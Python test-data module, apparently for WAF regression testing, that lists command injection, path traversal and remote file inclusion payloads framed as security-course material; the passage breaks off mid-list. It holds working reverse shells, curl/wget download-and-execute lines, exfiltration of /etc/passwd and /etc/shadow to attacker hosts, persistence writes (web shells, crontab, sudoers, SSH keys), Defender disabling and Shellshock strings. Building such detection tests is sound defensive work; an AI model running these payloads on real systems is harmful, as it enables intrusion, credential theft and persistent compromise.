"""Blind set "hundredeightyfifth": OS command injection, local file inclusion / path traversal and remote file
inclusion the way security courses teach them, with benign requests that carry the same words innocently.

The angle: security education, recalled from memory. Each group of payloads is what a course hands its students
for one vulnerability class: a textbook's worked example, an exam candidate's notes (OSCP, eJPT, CEH, GWAPT), an
online academy's lab solution (the ping form, the download endpoint, the ?page= include), a teacher's cheat
sheet, a university assignment, a conference workshop's exercise. Every list covers the classic first example and
then the "advanced" chapter that follows it: filter evasion (quotes, ${IFS}, globbing, carets, every encoding of
../), context-specific payloads (quoted arguments, Windows cmd versus PowerShell, PHP wrappers), blind and
out-of-band techniques (sleep, ping counts, DNS and HTTP callbacks, output written to the web root) and the
encoding and truncation chapters (double encoding, overlong UTF-8, null bytes, path truncation). Each group
carries a comment naming its teaching context and its target (bash/sh, cmd.exe, PowerShell, PHP include,
Java servlet, IIS, Apache mod_cgi, Tomcat, Node.js).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-expression-evasion, windows-cmd-injection, powershell,
    unix-command-names-with-paths, reverse-shells, shellshock, downloaders, file-write-via-shell,
    restricted-file-names-in-commands
  lfi: path-traversal, os-file-access, absolute-paths, null-byte-truncation, php-wrapper-lfi,
    log-poisoning-targets, restricted-file-extensions
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    protocols

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) as a query
string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a
cookie. Parameter names follow the lesson (host, ip, cmd for the ping form; file, page, path, lang for inclusion;
page, url, include, template for remote inclusion); the include-parameter family always uses an include-style name
in both copies. Shellshock goes where mod_cgi turns it into an environment variable: request headers and cookies.
Payloads with control characters (newline, carriage return, NUL) never go into headers, cookies or the path; NUL
never into XML.

Authorship and independence: written for this repository from general knowledge of each attack family, course
material as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredeightyfifth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]

# ================================================================================================================
# rce
# ================================================================================================================
# unix-command-injection: the academy's "ping a host" lab (PHP shell_exec("ping -c 4 " . $ip)); target /bin/sh
UNIX_SEP: list[Entry] = [
    # lesson 1, the separators one by one
    "127.0.0.1; id",
    "127.0.0.1 | id",
    "nonexistent.invalid || whoami",
    "127.0.0.1 && cat /etc/passwd",
    "127.0.0.1 & uname -a",
    "`id`",
    "$(whoami)",
    "127.0.0.1\nid",
    "127.0.0.1\r\nwhoami",
    "8.8.8.8;ls -la /var/www/html",
    "| id #",
    # lesson 2, the argument is quoted by the script: close the quote first
    "127.0.0.1'; id; echo '",
    "127.0.0.1\"; id; echo \"",
    "';uname -a;#",
    # lesson 3, blind: the output is never shown, so time it or call out
    "127.0.0.1 `sleep 10`",
    "127.0.0.1; sleep 5 #",
    "127.0.0.1 | ping -c 10 127.0.0.1",
    "127.0.0.1 && nslookup $(whoami).c2vx9q.oastify.com",
    "127.0.0.1; ping -c 3 10.10.14.3",
]

# unix-shell-expression-evasion: the filter-evasion chapter (blacklist of spaces, slashes, keywords); target bash
UNIX_EVASION: list[Entry] = [
    # quotes and backslashes the shell removes before running the word
    "127.0.0.1;c'a't /e't'c/pa's'swd",
    "127.0.0.1;c\"at\" /etc/pa\"ss\"wd",
    "127.0.0.1;ca\\t /et\\c/pas\\swd",
    ";w'h'o'am'i",
    ";who$@ami",
    ";wh$()oami",
    # no spaces allowed: IFS, braces, redirection
    ";cat${IFS}/etc/passwd",
    ";cat$IFS$9/etc/passwd",
    "127.0.0.1|{cat,/etc/passwd}",
    ";{ls,-la,/}",
    ";cat</etc/passwd",
    ";X=$'cat\\x20/etc/passwd'&&$X",
    # no slashes allowed: take one from a variable
    ";cat${IFS}${HOME:0:1}etc${HOME:0:1}passwd",
    # keywords banned: globbing finds the binary and the file
    ";/???/??t /???/p??s??",
    ";/bin/c[a]t /etc/pass[w]d",
    ";cat /etc/pa*wd",
    # build the command at run time
    ";a=c;b=at;$a$b /etc/passwd",
    ";$(printf '\\x69\\x64')",
    ";echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh",
    "127.0.0.1;`echo d2hvYW1p|base64 -d`",
    ";$(rev<<<'imaohw')",
]

# windows-cmd-injection: the same ping lab on IIS / ASP.NET (Process.Start("cmd.exe", "/c ping " + host));
# target cmd.exe
WIN_CMD: list[Entry] = [
    "127.0.0.1 & whoami",
    "127.0.0.1 && type C:\\Windows\\win.ini",
    "127.0.0.1 | dir C:\\",
    "nohost || net user",
    "& systeminfo",
    "127.0.0.1 & tasklist /v",
    "| type %SYSTEMROOT%\\win.ini",
    "& %COMSPEC% /c whoami",
    "| reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    # post-exploitation notes: add a user to the local administrators
    "127.0.0.1 & net user hacker P@ssw0rd! /add",
    "127.0.0.1 & net localgroup administrators hacker /add",
    # blind on Windows: ping count and DNS callback
    "127.0.0.1 & ping -n 10 127.0.0.1",
    "127.0.0.1 & nslookup %USERNAME%.k3j9.oastify.com",
    # filter evasion for cmd.exe: carets and empty quotes
    "127.0.0.1 & w^h^o^a^m^i",
    "127.0.0.1 & who\"\"ami",
    "127.0.0.1 & cmd.exe /c \"echo %USERDOMAIN%\\%USERNAME%\"",
    "& wmic process call create \"cmd.exe /c whoami > C:\\inetpub\\wwwroot\\o.txt\"",
    "& certutil -urlcache -split -f http://10.10.14.3/nc.exe C:\\Windows\\Temp\\nc.exe",
]

# powershell: the Windows chapter of an exam prep course; target powershell.exe / pwsh
POWERSHELL: list[Entry] = [
    "& powershell -nop -c \"Get-Process\"",
    "& powershell -enc dwBoAG8AYQBtAGkA",
    "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://10.10.14.3/rev.ps1')\"",
    "& powershell IEX (iwr http://10.10.14.3/Invoke-PowerShellTcp.ps1 -UseBasicParsing)",
    "& powershell -c \"(New-Object Net.WebClient).DownloadFile('http://10.10.14.3/nc.exe','C:\\Temp\\nc.exe')\"",
    "& powershell.exe -NoProfile -Command \"Invoke-WebRequest http://10.10.14.3/$env:COMPUTERNAME\"",
    "| powershell -ExecutionPolicy Bypass -File \\\\10.10.14.3\\share\\run.ps1",
    "& powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    # injection into a script that builds a PowerShell command line
    "; Get-Content C:\\Windows\\win.ini",
    "; Invoke-Expression 'whoami'",
    "; Start-Process calc.exe",
    "; [System.Diagnostics.Process]::Start('cmd.exe','/c whoami')",
    "'; Get-ChildItem C:\\Users -Recurse; '",
    "; Get-WmiObject Win32_UserAccount",
    "; Start-Sleep -s 10",
    "; IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('d2hvYW1p')))",
    "| pwsh -c 'Get-Content /etc/passwd'",
    # the one-liner reverse shell every course copies into its notes
    "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('10.10.14.3',443);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$t=([text.encoding]::ASCII).GetBytes($r);"
    "$s.Write($t,0,$t.Length)}\"",
]

# unix-command-names-with-paths: the enumeration checklist of a privilege-escalation course, with full binary paths
# because the lab's PATH is empty; target /bin/sh
UNIX_PATHS: list[Entry] = [
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    "&& /usr/bin/whoami",
    ";/bin/ls -la /home",
    "$(/usr/bin/uname -a)",
    "`/usr/bin/id`",
    ";/sbin/ifconfig",
    "; /sbin/ip a",
    "|/bin/ps aux",
    ";/usr/bin/find / -perm -4000 -type f 2>/dev/null",
    ";/bin/netstat -tulpn",
    ";/bin/uname -a",
    ";/usr/bin/crontab -l",
    "|/usr/bin/sudo -l",
    ";/usr/local/bin/python3 -c 'import os;os.system(\"id\")'",
    ";/bin/busybox telnetd -l /bin/sh -p 9999",
    ";/usr/bin/head -n 5 /etc/shadow",
    "|/usr/bin/getent passwd",
]

# reverse-shells: the reverse-shell cheat sheet handed out in week 3 (attacker box 10.10.14.3); target bash/sh
REVERSE: list[Entry] = [
    ";bash -i >& /dev/tcp/10.10.14.3/4444 0>&1",
    ";bash -c 'bash -i >& /dev/tcp/10.10.14.3/4444 0>&1'",
    "|nc -e /bin/sh 10.10.14.3 4444",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.10.14.3 4444 >/tmp/f",
    "; python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    "s.connect((\"10.10.14.3\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);"
    "subprocess.call([\"/bin/sh\",\"-i\"])'",
    "; python3 -c 'import pty,socket,os;s=socket.socket();s.connect((\"10.10.14.3\",9001));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
    "; perl -e 'use Socket;$i=\"10.10.14.3\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "; socat tcp-connect:10.10.14.3:4444 exec:/bin/sh,pty,stderr,setsid,sigint,sane",
    "; socat TCP:10.10.14.3:4444 EXEC:bash",
    "; php -r '$sock=fsockopen(\"10.10.14.3\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    "; ruby -rsocket -e'f=TCPSocket.open(\"10.10.14.3\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    "; nc -lvnp 4444 -e /bin/bash",
    "; ncat 10.10.14.3 4444 -e /bin/bash",
    "; sh -i >& /dev/udp/10.10.14.3/4444 0>&1",
    "; 0<&196;exec 196<>/dev/tcp/10.10.14.3/4444; sh <&196 >&196 2>&196",
    "; exec 5<>/dev/tcp/10.10.14.3/80;cat <&5 | while read line; do $line 2>&5 >&5; done",
    "; awk 'BEGIN {s = \"/inet/tcp/0/10.10.14.3/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c;"
    " if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
    "; node -e 'require(\"child_process\").exec(\"nc -e /bin/sh 10.10.14.3 4444\")'",
]

# shellshock: the CVE-2014-6271 workshop against an Apache mod_cgi script; target bash importing a function
# definition from an environment variable (request headers and cookies become HTTP_* variables)
SHELLSHOCK: list[Entry] = [
    "() { :; }; /bin/bash -c 'cat /etc/passwd'",
    "() { :;}; echo; /usr/bin/id",
    "() { :; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd",
    "() { ignored;}; /bin/bash -i >& /dev/tcp/10.10.14.3/4444 0>&1",
    "() { :;}; /usr/bin/wget http://10.10.14.3/shellshock-oob",
    "() { :;}; /bin/sleep 20",
    "() { :; }; /bin/ping -c 3 10.10.14.3",
    "() { :;}; /usr/bin/curl -d @/etc/passwd http://10.10.14.3/",
    "() { :;}; /bin/nc -e /bin/sh 10.10.14.3 4444",
    "() { :; }; echo; echo vulnerable",
    "() { test;};/usr/bin/nslookup shellshock.q7w1.oastify.com",
    "() { :;}; /bin/bash -c \"echo '<?php system($_GET[c]); ?>' > /var/www/html/s.php\"",
    "(){ :;}; /usr/bin/uname -a",
    "() { :;}; echo; /bin/ls /",
    # the follow-up bugs the workshop shows after the first patch (CVE-2014-7169, CVE-2014-6278)
    "() { (a)=>\\' bash -c \"echo date\"; cat echo",
    "() { _; } >_[$($())] { id; }",
]

# downloaders: "living off the land" chapter, fetch the second stage and run it; target sh with curl/wget/busybox
DOWNLOADERS: list[Entry] = [
    ";curl http://10.10.14.3/shell.sh | sh",
    ";wget -qO- http://10.10.14.3/x.sh | bash",
    ";wget http://10.10.14.3/rev -O /tmp/rev; chmod +x /tmp/rev; /tmp/rev",
    "|curl -s http://attacker.com/payload.sh -o /tmp/p.sh && bash /tmp/p.sh",
    "$(curl -fsSL http://10.10.14.3/i.sh|sh)",
    "`wget -O - http://10.10.14.3/s|sh`",
    "| bash <(curl -s http://10.10.14.3/r.sh)",
    "; curl -L https://github.com/carlospolop/PEASS-ng/releases/latest/download/linpeas.sh | sh",
    # out-of-band exfiltration, the blind-injection lesson
    ";curl http://10.10.14.3/$(whoami)",
    "; curl http://10.10.14.3/`id|base64`",
    ";curl -X POST --data-binary @/etc/passwd http://10.10.14.3:8000/",
    ";wget --post-file=/etc/shadow http://10.10.14.3/",
    ";curl -F 'f=@/var/www/html/config.php' http://10.10.14.3/upload",
    # embedded devices and other systems (IoT hacking workshop)
    "; busybox wget http://10.10.14.3/mips -O /tmp/m; chmod 777 /tmp/m; /tmp/m",
    "; tftp -g -r shell.elf 10.10.14.3",
    # interpreters as downloaders
    "; python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://10.10.14.3/p.py\").read())'",
    "; php -r 'file_put_contents(\"/tmp/s\",file_get_contents(\"http://10.10.14.3/s\"));'",
]

# file-write via shell: persistence and "make blind visible" lessons; target sh writing into the web root, cron,
# ssh and sudoers
FILE_WRITE: list[Entry] = [
    "; echo '<?php system($_GET[\"cmd\"]); ?>' > /var/www/html/shell.php",
    "; echo PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg== | base64 -d > /var/www/html/c.php",
    "| tee /var/www/html/x.php <<< '<?php passthru($_REQUEST[0]);'",
    "; tee /var/www/html/info.php <<< '<?php phpinfo(); ?>'",
    "; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 attacker@kali' >> /root/.ssh/authorized_keys",
    "; echo '* * * * * root bash -c \"bash -i >& /dev/tcp/10.10.14.3/4444 0>&1\"' >> /etc/crontab",
    "; echo 'hacker:$1$xyz$Q2Y1Hn4cHe9ECh.V2t5dx/:0:0::/root:/bin/bash' >> /etc/passwd",
    "; echo 'www-data ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers",
    "; echo 'nc -e /bin/sh 10.10.14.3 4444' >> ~/.bashrc",
    "; echo 'AddType application/x-httpd-php .jpg' > /var/www/html/uploads/.htaccess",
    # blind injection made visible: redirect the output to a file the browser can fetch
    "; id > /var/www/html/out.txt",
    "; cat /etc/passwd > /var/www/html/static/p.txt",
    "& whoami > C:\\inetpub\\wwwroot\\w.txt",
    "& echo ^<?php system($_GET['c']); ?^> > C:\\xampp\\htdocs\\c.php",
    # setuid copy of the shell
    "; cp /bin/bash /tmp/.b && chmod +s /tmp/.b",
    "; touch /tmp/pwned",
    "; printf '#!/bin/sh\\nnc 10.10.14.3 4444 -e /bin/sh\\n' > /tmp/u.sh; chmod +x /tmp/u.sh",
]

# restricted file names in commands: the "what to read once you have a shell" slide; target sh and cmd.exe
RESTRICTED_NAMES: list[Entry] = [
    ";cat /etc/shadow",
    "|cat /etc/passwd",
    ";more /etc/group",
    "; head /etc/sudoers",
    ";tail -n 50 /var/log/auth.log",
    ";cat ~/.ssh/id_rsa",
    ";cat /root/.bash_history",
    ";cat /proc/self/environ",
    ";cat /var/www/html/wp-config.php",
    ";cat .env",
    "; cat /etc/ssh/sshd_config",
    "; cat /etc/master.passwd",
    "; grep -r password /var/www/html/config",
    "; cat /proc/version",
    "; cat /etc/issue",
    "& type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "& type C:\\boot.ini",
    "& type C:\\inetpub\\wwwroot\\web.config",
]

# ================================================================================================================
# lfi
# ================================================================================================================
# path-traversal: the "directory traversal" module (image?filename=, download?file=) and its encoding chapter;
# targets: PHP include/readfile, a Java servlet serving files, Node.js express static, IIS
TRAVERSAL: list[Entry] = [
    # the first lab: plain ../ and ..\
    "../../../../etc/passwd",
    "../../../../../../../../etc/passwd",
    "../../../../../../../../../../../../../../../../etc/hosts",
    "..\\..\\..\\..\\windows\\win.ini",
    # the application strips ../ once (non-recursive): nest it
    "....//....//....//etc/passwd",
    "..././..././..././etc/passwd",
    "....\\\\....\\\\windows\\win.ini",
    # the application requires the path to start with its base folder
    "/var/www/images/../../../etc/passwd",
    # URL-encoding chapter: single, partial and double encoding
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    ".%2e/.%2e/.%2e/etc/passwd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%252f..%252f..%252fetc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "..%255c..%255cwindows%255cwin.ini",
    "%2e%2e%5c%2e%2e%5cboot.ini",
    # unicode chapter: overlong UTF-8 (old IIS and Java decoders) and IIS %u encoding
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd",
    # normalisation chapter: fullwidth dots that NFKC turns into ASCII
    "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd",
    # mixed and doubled separators
    "..//..//..//etc//passwd",
    "..\\/..\\/..\\/etc/passwd",
    # Tomcat path parameter: ..;/ is .. to Tomcat, not to the proxy in front of it
    "..;/..;/WEB-INF/web.xml",
]

# os-file-access: the "interesting files" list of an exam candidate's notes; targets: Linux and Windows hosts
# behind a PHP/Java file viewer
OS_FILES: list[Entry] = [
    "../../../../etc/shadow",
    "../../../../etc/issue",
    "../../../../proc/self/environ",
    "/proc/self/cmdline",
    "/proc/self/status",
    "/proc/self/maps",
    "/proc/self/cwd/app.py",
    "/proc/1/environ",
    "/proc/net/tcp",
    "../../../../windows/win.ini",
    "..\\..\\..\\boot.ini",
    "../../web.config",
    "../.htaccess",
    ".htpasswd",
    "../../.git/config",
    ".git/HEAD",
    "../../../.env",
    "../../../../home/www-data/.ssh/id_rsa",
    "../../../../root/.ssh/id_rsa",
    "../../WEB-INF/web.xml",
    "..\\..\\..\\inetpub\\wwwroot\\web.config",
    "../../../../windows/system32/drivers/etc/hosts",
    "../../../../windows/repair/sam",
    "../../../../var/www/html/config.php",
    "../../../../etc/mysql/my.cnf",
    "../../../.aws/credentials",
    "../../../../home/ubuntu/.bash_history",
    "../../../../usr/local/tomcat/conf/tomcat-users.xml",
]

# absolute-paths: the lab where ../ is filtered but the application joins nothing in front; targets: PHP
# file_get_contents, Python open(), Java new File(param)
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "//etc/passwd",
    "/etc/./passwd",
    "/./etc/./passwd",
    "/proc/version",
    "/proc/self/environ",
    "/var/www/html/index.php",
    "/etc/apache2/apache2.conf",
    "/etc/nginx/nginx.conf",
    "/etc/php/7.4/apache2/php.ini",
    "/etc/httpd/conf/httpd.conf",
    "/root/.ssh/authorized_keys",
    "/etc/ssh/ssh_host_rsa_key",
    "/opt/tomcat/conf/server.xml",
    "/var/lib/mysql/mysql/user.MYD",
    "file:///etc/passwd",
    "C:\\Windows\\win.ini",
    "C:/Windows/System32/drivers/etc/hosts",
    "c:\\boot.ini",
    "C:\\inetpub\\wwwroot\\web.config",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config",
    "\\\\?\\C:\\Windows\\win.ini",
]

# null-byte/truncation: the PHP < 5.3.4 chapter (include($_GET['page'] . ".php") stops at NUL), old Java File,
# and the path-truncation trick (PHP cuts paths at 4096 bytes, Windows at MAX_PATH)
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.php",
    "/etc/passwd\x00.html",
    "/etc/passwd\x00",
    "../../../../etc/passwd\x00.jpg",
    "../../../../etc/shadow\x00.inc",
    "../../../../proc/self/environ\x00",
    "....//....//etc/passwd\x00.php",
    "..\\..\\..\\boot.ini\x00",
    "..\\..\\..\\windows\\win.ini\x00.html",
    "C:\\Windows\\win.ini\x00.txt",
    ".htpasswd\x00.txt",
    "../../config.php\x00.png",
    "../../../../var/log/apache2/access.log\x00",
    # old Java (before 7u40) passed the NUL to the OS too
    "../../WEB-INF/web.xml\x00.jsp",
    # the encoded forms from the same chapter, for an application that decodes once more
    "../../../../etc/passwd%00",
    "../../../../etc/passwd%2500",
    "..%2f..%2f..%2fetc%2fpasswd%00",
    "../../../../etc/hosts%00.php",
    # path truncation: the appended extension falls off past the length limit
    ("../../../../etc/passwd" + "/." * 2100, "json", "rs-json"),
    ("../../../../etc/passwd" + "/" * 4100, "form", "rs-form"),
    ("..\\..\\..\\windows\\win.ini" + "." * 270, "json", "rs-json"),
]

# php-wrapper-lfi: the PHP stream wrapper lesson (read the source as base64, run POSTed code, unpack an upload);
# target: PHP include()/require()
PHP_WRAPPERS: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=config.php",
    "php://filter/convert.base64-encode/resource=../../../../etc/passwd",
    "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php",
    "php://filter/read=convert.base64-encode/resource=../.env",
    "php://filter/convert.base64-encode/resource=/proc/self/environ",
    "php://filter/resource=/etc/passwd",
    "php://filter/string.rot13/resource=index.php",
    "php://filter/read=string.toupper|string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=index.php",
    "php://filter/convert.quoted-printable-encode/resource=index.php",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd",
    "php://filter/convert.base64-encode|convert.base64-encode/resource=index",
    "php://filter/string.strip_tags/resource=/etc/passwd",
    # the filter blocks the lowercase word only
    "pHp://FilTer/convert.base64-encode/resource=index.php",
    "PHP://filter/convert.base64-encode/resource=admin",
    # code execution wrappers: php://input with the code in the POST body, an uploaded zip or phar
    "php://input",
    "zip://uploads/avatar.zip#shell.php",
    "zip:///var/www/html/uploads/cv.docx#shell.php",
    "phar://uploads/avatar.jpg/shell.php",
    "phar:///var/www/html/uploads/profile.gif/x",
    "compress.zlib://../../../../etc/passwd",
]

# log-poisoning targets: the "LFI to RCE" lesson: poison a log (User-Agent, SSH user name, mail) or a session
# file, then include it; targets: Apache, nginx, sshd, vsftpd, PHP sessions, IIS/XAMPP on Windows
LOG_TARGETS: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "/var/log/apache2/error.log",
    "../../../../var/log/nginx/access.log",
    "/var/log/nginx/error.log",
    "/var/log/httpd/access_log",
    "/usr/local/apache2/logs/access_log",
    "/opt/lampp/logs/access_log",
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/vsftpd.log",
    "/var/log/mail.log",
    "/var/mail/www-data",
    "/var/spool/mail/root",
    "/var/log/syslog",
    "/proc/self/fd/2",
    "/proc/self/fd/10",
    "/var/lib/php/sessions/sess_9c1f3b7a2d4e5f60718293a4b5c6d7e8",
    "/tmp/sess_4c5d6e7f8a9b0c1d2e3f4a5b6c",
    "C:\\xampp\\apache\\logs\\access.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240101.log",
    "php://filter/resource=/var/log/nginx/access.log",
    "....//....//....//var/log/apache2/access.log",
]

# restricted-file-extensions: the "backup and config files" lesson of a web-app testing course; targets: any web
# server that serves leftovers (editors' backups, dumps, configuration)
RESTRICTED_EXT: list[Entry] = [
    "index.php.bak",
    "config.php.old",
    "wp-config.php~",
    "web.config.bak",
    "database.sql",
    "users.sql",
    "../backup/dump.sql",
    "../config/database.yml",
    "settings.ini",
    "../../php.ini",
    "../app.config",
    ".config.php.swp",
    ".env.bak",
    "../../App_Data/db.mdb",
    "../WEB-INF/classes/application.properties",
    "site.conf.orig",
    "../../../windows/system.ini",
    "admin.aspx.old",
    "global.asa",
    "credentials.cfg",
    "../logs/error.log.1",
    "id_rsa.bak",
    "nginx.conf.save",
]

# ================================================================================================================
# rfi
# ================================================================================================================
# url-with-ip-address: the RFI lab's attacker box serving shell.txt (allow_url_include=On); target PHP include()
URL_IP: list[Entry] = [
    "http://10.10.14.3/shell.txt",
    "http://10.10.14.3:8000/cmd.txt",
    "http://10.10.14.3/shell.jpg",
    "https://10.10.14.3:4443/payload.php",
    "http://192.168.45.200/rev.php",
    "http://192.168.56.101/simple-backdoor.php",
    "http://192.168.1.1:80/evil.txt",
    "http://172.16.5.20/shell.txt",
    "http://10.0.0.5/php-reverse-shell.php",
    "https://203.0.113.50/c99.txt",
    "http://198.51.100.7/webshell.txt",
    "http://1.2.3.4/r57.txt",
    "http://10.11.0.4/evil.txt",
    "http://10.10.14.3/x.txt?cmd=id",
    "http://10.10.14.3:80/shells/cmd.php",
    "http://45.33.32.156/phpinfo.txt",
    # the IP written differently: decimal, hex, octal, IPv6-mapped, shortened
    "http://3232235777/shell.txt",
    "http://168431107/shell.txt",
    "http://0x0a0a0e03/shell.txt",
    "http://0xc0a80101/shell.txt",
    "http://0300.0250.0001.0001/shell.txt",
    "http://012.012.016.003/shell.txt",
    "http://[::ffff:192.168.1.1]/shell.txt",
    "http://[::ffff:a0a:e03]/cmd.txt",
    "http://10.10.3/shell.txt",
    "http://192.168.257/shell.txt",
    # the IP with credentials and a port, as the lab's notes write it
    "http://user:pass@10.10.14.3:8080/shell.txt",
    "https://10.10.14.3/shells/php/backdoor.txt",
    "http://10.10.14.3/",
    "http://10.10.14.3/index.txt",
    "http://192.168.119.134/rshell.txt",
]

# url-with-trailing-question-mark: the lesson where the script appends ".php": end the URL with "?" (or "#", or an
# encoded NUL) so the suffix becomes a query string; target PHP include($_GET['page'] . ".php")
URL_QMARK: list[Entry] = [
    "http://attacker.com/shell.txt?",
    "http://10.10.14.3/shell.txt?",
    "http://evil.com/c99.txt??",
    "https://pastebin.com/raw/Xy12AbCd?",
    "http://attacker.com/shell.txt?ignore=",
    "http://attacker.com/cmd.txt?&cmd=id",
    "http://hacker.net/r57.txt?x=",
    "https://raw.githubusercontent.com/pentestmonkey/php-reverse-shell/master/php-reverse-shell.php?",
    "http://192.168.45.200/rev.txt?",
    "http://evil.com/shell.txt?.php",
    "http://attacker.com/shell.txt#",
    "http://attacker.com/shell.txt%00",
    "http://attacker.com/shell.txt%3f",
    "http://attacker.com/shell.txt%23",
    "//attacker.com/shell.txt?",
    "https://gist.githubusercontent.com/anon/8f2a/raw/shell.txt?",
    "http://evil.org/include.txt?dummy",
    "http://10.10.14.3:8000/s.txt?a=",
    "HTTP://ATTACKER.COM/SHELL.TXT?",
    "hTtP://evil.com/shell.txt?",
    "http://attacker.com/shell?",
    "ftp://10.10.14.3/shell.txt?",
    "http://attacker.com/phpinfo.txt?page=",
    "http://evil.com/backdoor.txt?file=",
    "https://attacker.com/x.txt?=",
    "http://0xc0a80101/shell.txt?",
    "http://attacker.com/shell.txt?\x00",
    "http://attacker.com/shell.txt\x00",
    "http://attacker.com/shell.txt?lang=en",
    "https://transfer.sh/AbC12/shell.txt?",
    "http://webhook.site/3f1e2d4c-5b6a-4789-9abc-def012345678?",
]

# include-parameter-with-url: the vulnerable parameter names every course lists (page, file, template, include,
# path, inc, lang, module) carrying a remote URL; target PHP include()/require(), JSP <c:import>, SSI
INCLUDE_PARAM: list[Entry] = [
    "http://evil.com/shell.txt",
    "http://attacker.com/phpshell.txt",
    "https://hacker.net/backdoor.php",
    "http://evil.com/templates/header.txt",
    "http://attacker.com/inc/config.txt",
    "https://attacker.com/lang/en.txt",
    "http://evil.com/modules/admin.txt",
    "http://attacker.com/c99.txt",
    "http://attacker.com/r57shell.txt",
    "http://attacker.com/wso.txt",
    "http://evil.com/b374k.txt",
    "https://evil.com/php-reverse-shell.txt",
    "http://attacker.com/webshell.jsp",
    "http://attacker.com/cmd.asp",
    "http://evil.com/cmd.aspx",
    "http://attacker.com/test.txt",
    "http://attacker.com/phpinfo.txt",
    "http://evil.com/simple-backdoor.txt",
    "https://attacker.com:8443/shell.txt",
    "http://attacker.com:8080/cmd.txt",
    "http://evil.com/x",
    "http://shell.evil.com/s.txt",
    "http://cdn.attacker.com/assets/js.txt",
    "http://evil.com/include/footer.inc",
    "http://attacker.com/uploads/shell.gif",
    "https://pastebin.com/raw/N4bc9Zq1",
    "https://raw.githubusercontent.com/tennc/webshell/master/php/b374k/b374k-2.8.php",
    "http://attacker.com/shell.txt?cmd=cat%20/etc/passwd",
    "http://evil.com/rfi.txt?c=id",
    "https://attacker.com/ssi.txt",
    "http://attacker.com/wp-content/plugins/shell.txt",
]

# off-domain-reference: the parser-confusion lesson (a URL that seems to stay on the site but fetches from the
# attacker's); targets: PHP include with allow_url_include, server-side fetch-and-include code
OFF_DOMAIN: list[Entry] = [
    "http://victim.com@attacker.com/shell.txt",
    "http://www.victim.com.attacker.com/shell.txt",
    "http://attacker.com/victim.com/shell.txt",
    "http://attacker.com#@victim.com/shell.txt",
    "http://attacker.com\\@victim.com/shell.txt",
    "http://attacker.com%2f@victim.com/shell.txt",
    "http://victim.com%40attacker.com/shell.txt",
    "//attacker.com/shell.txt",
